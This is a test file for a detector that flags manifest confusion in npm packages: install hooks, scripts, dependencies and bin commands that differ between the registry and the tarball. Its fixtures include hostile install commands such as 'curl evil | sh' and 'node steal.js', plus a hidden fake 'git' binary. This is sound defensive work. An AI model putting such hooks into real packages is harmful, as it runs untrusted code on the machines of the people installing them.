import { describe, expect, it } from 'vitest';
import { MANIFEST_CONFUSION_RULES, manifestConfusion } from '../../../src/detectors/package/manifest-confusion.js';
import type { PackageMetadata } from '../../../src/model/dependencies.js';

/** What the registry shows: a test script, one dependency, one bin. */
function registry(over: Partial<PackageMetadata> = {}): PackageMetadata {
  return {
    scripts: { test: 'vitest' },
    bin: { tool: 'bin/tool.js' },
    dependencies: [{ name: 'chalk', spec: '^5.0.0' }],
    unavailable: [],
    ...over,
  };
}

const tarball = (over: Record<string, unknown> = {}): string =>
  JSON.stringify({ name: '@acme/tool', version: '1.0.0', scripts: { test: 'vitest' }, bin: { tool: './bin/tool.js' }, dependencies: { chalk: '^5.0.0' }, ...over }, null, 2);

describe('manifestConfusion', () => {
  it('matching manifests give nothing (bin "./" prefix is npm normalisation)', () => {
    expect(manifestConfusion(registry(), tarball())).toEqual([]);
  });

  it('a postinstall hidden from the registry is high, located at its line, both sides in evidence', () => {
    const text = tarball({ scripts: { test: 'vitest', postinstall: 'node steal.js' } });
    const out = manifestConfusion(registry(), text);
    expect(out).toHaveLength(1);
    const [f] = out;
    expect(f!.ruleId).toBe('pkg/manifest-confusion');
    expect(f!.severity).toBe('high');
    expect(f!.vector).toBe('install');
    expect(f!.message).toContain('hidden postinstall script');
    expect(f!.location.file).toBe('package.json');
    expect(text.split('\n')[f!.location.line - 1]).toContain('"postinstall": "node steal.js"');
    expect(f!.snippet).toBe('"postinstall": "node steal.js"');
    expect(f!.evidence).toBe('registry manifest: "scripts": { "postinstall": (absent) }\ntarball package.json: "scripts": { "postinstall": "node steal.js" }');
  });

  it.each(['preinstall', 'install', 'prepare'])('hidden %s is high too', (hook) => {
    const out = manifestConfusion(registry(), tarball({ scripts: { test: 'vitest', [hook]: 'sh x.sh' } }));
    expect(out.map((x) => x.severity)).toEqual(['high']);
  });

  it('an install script whose command differs is high (npm runs the tarball one)', () => {
    const out = manifestConfusion(registry({ scripts: { postinstall: 'node build.js' } }), tarball({ scripts: { postinstall: 'curl evil | sh' } }));
    expect(out.map((x) => [x.severity, x.message])).toEqual([
      ['high', `postinstall script differs: npm runs the tarball's: the registry shows scripts.postinstall = "node build.js", the tarball's package.json has "curl evil | sh"`],
    ]);
  });

  it('an install script only the registry shows is medium (nothing hidden runs)', () => {
    const out = manifestConfusion(registry({ scripts: { postinstall: 'node build.js' } }), tarball({ scripts: {} }));
    expect(out.map((x) => x.severity)).toEqual(['medium']);
  });

  it('other script differences are medium', () => {
    const out = manifestConfusion(registry(), tarball({ scripts: { test: 'node test.js' } }));
    expect(out.map((x) => [x.severity, x.message.split(':')[0]])).toEqual([['medium', 'script "test" differs']]);
  });

  it("leaves npm's node-gyp normalisation alone", () => {
    expect(manifestConfusion(registry({ scripts: { test: 'vitest', install: 'node-gyp rebuild' } }), tarball())).toEqual([]);
  });

  it('hidden, dropped and changed dependencies are medium; optionalDependencies count as dependencies', () => {
    const out = manifestConfusion(
      registry({ dependencies: [{ name: 'chalk', spec: '^5.0.0' }, { name: 'debug', spec: '^4' }, { name: 'fsevents', spec: '^2', optional: true }] }),
      tarball({ dependencies: { chalk: '^4.0.0', 'flatmap-stream': '0.1.1' }, optionalDependencies: { fsevents: '^2' } }),
    );
    expect(out.map((x) => [x.severity, x.message.split(':')[0]])).toEqual([
      ['medium', 'dependency chalk differs'],
      ['medium', 'dependency debug listed only by the registry'],
      ['medium', 'hidden dependency flatmap-stream'],
    ]);
    expect(out[2]!.evidence).toContain('"dependencies": { "flatmap-stream": "0.1.1" }');
  });

  it('hidden or changed bin entries are medium; a string bin is named after the unscoped package', () => {
    const out = manifestConfusion(registry(), tarball({ bin: { tool: 'bin/tool.js', git: 'bin/fake-git.js' } }));
    expect(out.map((x) => [x.severity, x.message.split(':')[0]])).toEqual([['medium', 'hidden bin command git']]);
    expect(manifestConfusion(registry(), tarball({ bin: './bin/tool.js' }))).toEqual([]);
    expect(manifestConfusion(registry(), tarball({ bin: 'bin/other.js' })).map((x) => x.message.split(':')[0])).toEqual(['bin command tool differs']);
  });

  it('directories.bin expanded by npm is not a difference', () => {
    expect(manifestConfusion(registry(), tarball({ bin: undefined, directories: { bin: './bin' } }))).toEqual([]);
  });

  it('unparsable or non-object package.json → one info finding', () => {
    for (const text of ['{ "name": ', '[1,2]']) {
      const out = manifestConfusion(registry(), text);
      expect(out.map((x) => x.severity)).toEqual(['info']);
      expect(out[0]!.message).toContain('package.json in the tarball');
    }
  });

  it('missing registry scripts or dependencies are said, not assumed empty', () => {
    const out = manifestConfusion(registry({ scripts: undefined, dependencies: [], unavailable: ['dependencies'] }), tarball({ scripts: { postinstall: 'x' } }));
    expect(out.map((x) => [x.severity, x.message])).toEqual([
      ['info', 'the registry manifest gave no scripts, so the scripts were not compared'],
      ['info', 'the registry did not supply the dependencies, so they were not compared'],
    ]);
  });

  it('duplicate keys: npm (JSON.parse) keeps the last, so does the comparison', () => {
    const text = '{\n  "name": "x",\n  "scripts": {\n    "postinstall": "echo hi",\n    "postinstall": "node evil.js"\n  },\n  "bin": {"tool": "bin/tool.js"},\n  "dependencies": {"chalk": "^5.0.0"}\n}';
    const out = manifestConfusion(registry({ scripts: { test: 'vitest', postinstall: 'echo hi' } }), text);
    expect(out.find((x) => x.severity === 'high')?.evidence).toContain('"node evil.js"');
  });

  it('declares one rule whose most severe result is high', () => {
    expect(MANIFEST_CONFUSION_RULES.map((r) => [r.id, r.severity])).toEqual([['pkg/manifest-confusion', 'high']]);
    expect(MANIFEST_CONFUSION_RULES[0]!.docs).toContain('node-gyp rebuild');
  });
});
